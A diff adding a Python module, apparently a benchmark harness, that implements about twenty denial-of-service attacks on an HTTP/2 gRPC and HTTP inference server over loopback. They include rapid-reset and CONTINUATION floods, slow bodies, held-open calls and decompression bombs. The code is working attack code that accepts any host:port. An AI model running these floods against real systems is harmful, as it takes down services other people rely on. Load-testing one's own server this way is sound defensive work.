@@ -1,0 +1,239 @@
+"""The attacks, each an endless loop over loopback that some seconds of it are taken of.
+
+None knows a token. Raw sockets are used where no client would send such bytes. ``python -m`` with NAME GRPC HTTP
+SECONDS runs one, in a process of its own, so that an attacker and its victim share processors as two clients would.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import sys
+from collections.abc import Awaitable, Callable, Mapping
+from contextlib import suppress
+from functools import partial
+
+import hpack
+
+from benchmarks.attack.messages import GRPC_BOMBS, HTTP_BOMBS, pack
+from orchestrator.http2.frames import (
+    CONTINUATION,
+    DATA,
+    HEADERS,
+    PING,
+    PREFACE,
+    PRIORITY,
+    RST_STREAM,
+    SETTINGS,
+    WINDOW_UPDATE,
+    frame,
+)
+from orchestrator.http2.grpc.wire import pack_message
+from orchestrator.triton.messages import SERVICE
+
+Attack = Callable[[str, str], Awaitable[None]]
+"""Takes the addresses of gRPC and HTTP, ``host:port``, and goes on until it is cancelled."""
+
+_CHUNK_BYTES = 2**18
+_END_HEADERS, _END_STREAM = 4, 1
+_WINDOW_BYTES = (2**31 - 1 - 65535).to_bytes(4, "big")
+
+
+def _head(method: str, *more: tuple[str, str]) -> bytes:
+    """Return the header block of a call, the same wherever it stands."""
+    encoder = hpack.Encoder()
+    encoder.header_table_size = 0
+    fields = [
+        *((":method", "POST"), (":scheme", "http"), (":path", f"/{SERVICE}/{method}"), (":authority", "attack")),
+        *(("content-type", "application/grpc"), ("te", "trailers"), *more),
+    ]
+    return encoder.encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields])
+
+
+async def _connect(address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+    host, _, port = address.rpartition(":")
+    return await asyncio.open_connection(host, int(port), limit=2**20)
+
+
+async def _discard(reader: asyncio.StreamReader) -> None:
+    with suppress(OSError):
+        while await reader.read(2**20):
+            pass
+
+
+async def _send_on(address: str, first: bytes, chunks: Callable[[int], bytes]) -> None:
+    """Connect, send what comes first and then chunk after chunk until the other side ends it; read what comes."""
+    reader, writer = await _connect(address)
+    reading = asyncio.create_task(_discard(reader))
+    try:
+        writer.write(first)
+        number = 0
+        while not reading.done():
+            writer.write(chunks(number))
+            await writer.drain()
+            number += 1
+    finally:
+        reading.cancel()
+        writer.close()
+
+
+async def _again(attempt: Callable[[], Awaitable[None]], *, pause_s: float = 0.0) -> None:
+    """Begin anew whenever the other side has ended it."""
+    while True:
+        with suppress(OSError, asyncio.IncompleteReadError):
+            await attempt()
+        await asyncio.sleep(pause_s)
+
+
+_OPENING = PREFACE + frame(SETTINGS, 0, 0, b"") + frame(WINDOW_UPDATE, 0, 0, _WINDOW_BYTES)
+
+
+async def _flood(grpc: str, http: str, *, repeated: bytes, first: bytes = b"") -> None:
+    chunk = repeated * max(1, _CHUNK_BYTES // len(repeated))
+    await _again(lambda: _send_on(grpc, _OPENING + first, lambda number: chunk))
+
+
+async def _flood_of_streams(grpc: str, http: str, *, head: bytes, each: int, resets: bool = False) -> None:
+    """Open streams without an end, ``each`` a write; they are over at once, or reset as soon as they are open."""
+    flags = _END_HEADERS if resets else _END_HEADERS | _END_STREAM
+
+    def chunk(number: int) -> bytes:
+        first = 2 * number * each + 1
+        return b"".join(
+            frame(HEADERS, flags, stream, head) + (frame(RST_STREAM, 0, stream, _code(8)) if resets else b"")
+            for stream in range(first, first + 2 * each, 2)
+        )
+
+    await _again(lambda: _send_on(grpc, _OPENING, chunk))
+
+
+async def _http_bomb(grpc: str, http: str, *, name: str, packed: bool) -> None:
+    path, make = HTTP_BOMBS[name]
+    body = await asyncio.to_thread(lambda: pack(make()) if packed else make())
+    encoding = "Content-Encoding: gzip\r\n" if packed else ""
+    head = f"POST {path} HTTP/1.1\r\nHost: attack\r\n{encoding}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
+
+    async def post() -> None:
+        reader, writer = await _connect(http)
+        try:
+            writer.write(head.encode() + body)
+            await reader.read(2**20)
+        finally:
+            writer.close()
+
+    await _again(post, pause_s=0.5)
+
+
+async def _grpc_bomb(grpc: str, http: str, *, name: str) -> None:
+    packed = await asyncio.to_thread(lambda: pack(GRPC_BOMBS[name]()))
+    message = b"\x01" + len(packed).to_bytes(4, "big") + packed
+    opening = _OPENING + frame(HEADERS, _END_HEADERS, 1, _head("ModelInfer", ("grpc-encoding", "gzip")))
+    body = b"".join(frame(DATA, 0, 1, message[at : at + 16384]) for at in range(0, len(message), 16384))
+
+    async def call() -> None:
+        reader, writer = await _connect(grpc)
+        try:
+            writer.write(opening + body + frame(DATA, _END_STREAM, 1, b""))
+            with suppress(TimeoutError):
+                async with asyncio.timeout(2.0):
+                    await _discard(reader)
+        finally:
+            writer.close()
+
+    await _again(call, pause_s=0.5)
+
+
+async def _open_calls(grpc: str, http: str, *, count: int = 1000) -> None:
+    """Hold so many connections, each with a call that never ends."""
+    opening = _OPENING + frame(HEADERS, _END_HEADERS, 1, _head("ModelInfer"))
+
+    async def hold() -> None:
+        reader, writer = await _connect(grpc)
+        try:
+            writer.write(opening)
+            await _discard(reader)
+        finally:
+            writer.close()
+
+    await asyncio.gather(*(_again(hold, pause_s=0.1) for _ in range(count)))
+
+
+async def _unread_answers(grpc: str, http: str, *, count: int = 20_000) -> None:
+    """Ask for the configuration of a model again and again, with a window that takes no answer."""
+    question = pack_message(b"\x0a\x07fashion")
+    head, closed = _head("ModelConfig"), frame(SETTINGS, 0, 0, b"\x00\x04" + bytes(4))
+
+    def calls(number: int) -> bytes:
+        first = 200 * (number % (count // 100)) + 1
+        return b"".join(
+            frame(HEADERS, _END_HEADERS, stream, head) + frame(DATA, _END_STREAM, stream, question)
+            for stream in range(first, first + 200, 2)
+        )
+
+    await _again(lambda: _send_on(grpc, PREFACE + closed, calls))
+
+
+async def _slow_bodies(grpc: str, http: str, *, count: int = 9) -> None:
+    """Send large bodies, of which the second half comes a byte a second."""
+    head = b"POST /v2/models/fashion/infer HTTP/1.1\r\nHost: attack\r\nContent-Length: 60000000\r\n\r\n"
+
+    async def post() -> None:
+        reader, writer = await _connect(http)
+        try:
+            writer.write(head + bytes(30_000_000))
+            reading = asyncio.create_task(_discard(reader))
+            while not reading.done():
+                writer.write(b" ")
+                await asyncio.sleep(1.0)
+        finally:
+            writer.close()
+
+    await asyncio.gather(*(_again(post, pause_s=0.1) for _ in range(count)))
+
+
+def _refused_head() -> bytes:
+    encoder = hpack.Encoder()
+    return encoder.encode([(":method", "POST"), (":path", "/x"), ("connection", "close")])
+
+
+def _code(number: int) -> bytes:
+    return number.to_bytes(4, "big")
+
+
+ATTACKS: Mapping[str, Attack] = {
+    "window-updates": partial(_flood, repeated=frame(WINDOW_UPDATE, 0, 0, _code(1))),
+    "pings": partial(_flood, repeated=frame(PING, 0, 0, bytes(8))),
+    "settings": partial(_flood, repeated=frame(SETTINGS, 0, 0, b"")),
+    "priorities": partial(_flood, repeated=frame(PRIORITY, 0, 1, bytes(5))),
+    "unknown-frames": partial(_flood, repeated=frame(0x42, 0, 0, b"")),
+    "data-of-closed-streams": partial(
+        _flood,
+        first=frame(HEADERS, _END_HEADERS, 1, _head("ModelInfer")) + frame(RST_STREAM, 0, 1, _code(8)),
+        repeated=frame(DATA, 0, 1, bytes(1)),
+    ),
+    "empty-data": partial(
+        _flood, first=frame(HEADERS, _END_HEADERS, 1, _head("ModelInfer")), repeated=frame(DATA, 0, 1, b"")
+    ),
+    "continuations": partial(_flood, first=frame(HEADERS, 0, 1, b""), repeated=frame(CONTINUATION, 0, 1, b"")),
+    "rapid-resets": partial(_flood_of_streams, head=_head("ModelInfer"), each=2000, resets=True),
+    "refused-heads": partial(_flood_of_streams, head=_refused_head(), each=2000),
+    "unknown-methods": partial(_flood_of_streams, head=_head("Nothing"), each=2000),
+    "huffman": partial(_flood_of_streams, head=_head("Nothing", ("x", "0" * 12_000)), each=20),
+    "open-calls": _open_calls,
+    "unread-answers": _unread_answers,
+    "slow-bodies": _slow_bodies,
+    **{f"grpc-{name}": partial(_grpc_bomb, name=name) for name in GRPC_BOMBS},
+    **{f"gzip-{name}": partial(_http_bomb, name=name, packed=True) for name in HTTP_BOMBS},
+    **{f"json-{name}": partial(_http_bomb, name=name, packed=False) for name in HTTP_BOMBS},
+}
+
+
+async def attack(name: str, grpc: str, http: str, seconds: float) -> None:
+    """Attack for so many seconds."""
+    with suppress(TimeoutError):
+        async with asyncio.timeout(seconds):
+            await ATTACKS[name](grpc, http)
+
+
+if __name__ == "__main__":
+    name_, grpc_, http_, seconds_ = sys.argv[1:]
+    asyncio.run(attack(name_, grpc_, http_, float(seconds_)))
